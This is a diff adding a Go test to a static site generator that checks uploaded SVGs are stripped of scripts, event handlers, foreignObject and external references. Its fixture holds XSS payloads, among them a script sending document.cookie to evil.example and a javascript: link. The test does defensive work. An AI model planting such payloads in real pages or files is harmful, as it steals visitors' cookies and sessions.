@@ -5,6 +5,7 @@ import (
 	"context"
 	"image"
 	_ "image/jpeg" // decoding the published copies
+	"io/fs"
 	"regexp"
 	"strings"
 	"testing"
@@ -169,4 +170,75 @@ func TestDamagedPhotos(t *testing.T) {
 	if len(about) != 1 || !strings.Contains(about[0], "cut short") || !strings.Contains(about[0], "(the file is incomplete or damaged") {
 		t.Errorf("errors about half.jpg:\n%s\nwant one, saying it is cut short, with a hint", strings.Join(about, "\n"))
 	}
+}
+
+// TestSVGsSanitised: SVGs from content/ and static/ are published without
+// script, event handlers, foreignObject or external references, with a
+// warning at the line of each; the theme's clean favicon is untouched.
+func TestSVGsSanitised(t *testing.T) {
+	evil := []byte("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 40 20\"\n" +
+		"  onload=\"alert(document.cookie)\">\n" +
+		"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n" +
+		"<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"/></foreignObject>\n" +
+		"<a xlink:href=\"javascript:alert(1)\"><rect width=\"40\" height=\"20\" fill=\"#a3392a\"/></a>\n" +
+		"<image href=\"https://evil.example/pixel.png\" width=\"1\" height=\"1\"/>\n" +
+		"</svg>\n")
+	fsys := fstest.MapFS{
+		"content/kaart/index.md": {Data: []byte("---\ntitle: Kaart\n---\n![Kaart van de haven](kaart.svg)\n\n![Logo van het akkoord](/logo.svg)\n")},
+		"content/kaart/kaart.svg": {Data: evil},
+		"static/logo.svg":         {Data: evil},
+	}
+	mem := output.NewMemory()
+	_, diags := Run(context.Background(), fsys, mem, Config{Now: testNow, ThemeFS: themes.Ezine()})
+	if len(diags.Errors()) > 0 {
+		t.Fatalf("build: %v", diags)
+	}
+	for _, name := range []string{"kaart/kaart.svg", "logo.svg"} {
+		b, _ := mem.Get(name)
+		for _, bad := range []string{"script", "onload", "foreignObject", "iframe", "javascript:", "evil.example"} {
+			if bytes.Contains(b, []byte(bad)) {
+				t.Errorf("%s still holds %s:\n%s", name, bad, b)
+			}
+		}
+		if !bytes.Contains(b, []byte("#a3392a")) {
+			t.Errorf("%s lost its drawing:\n%s", name, b)
+		}
+	}
+	var warned []string
+	for _, w := range diags.Warnings() {
+		warned = append(warned, w.Error())
+	}
+	all := strings.Join(warned, "\n")
+	for _, want := range []string{
+		"content/kaart/kaart.svg:2: warning: attribute onload of <svg> (event handler) removed",
+		"content/kaart/kaart.svg:3: warning: <script> removed",
+		"content/kaart/kaart.svg:4: warning: <foreignObject> removed",
+		"content/kaart/kaart.svg:5: warning: attribute xlink:href of <a>",
+		"content/kaart/kaart.svg:6: warning: attribute href of <image>",
+		"static/logo.svg:3: warning: <script> removed",
+	} {
+		if !strings.Contains(all, want) {
+			t.Errorf("no warning %q in\n%s", want, all)
+		}
+	}
+	favicon, _ := mem.Get("favicon.svg")
+	src, err := fs.ReadFile(themes.Ezine(), "static/favicon.svg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if min := minified(t, "favicon.svg", src); len(favicon) == 0 || !bytes.Equal(favicon, min) {
+		t.Error("the theme's favicon.svg changed")
+	}
+}
+
+// minified is what the output writer makes of a file that it publishes
+// as it is.
+func minified(t *testing.T, name string, data []byte) []byte {
+	t.Helper()
+	mem := output.NewMemory()
+	if err := output.NewWriter(mem).Write(name, data); err != nil {
+		t.Fatal(err)
+	}
+	b, _ := mem.Get(name)
+	return b
 }
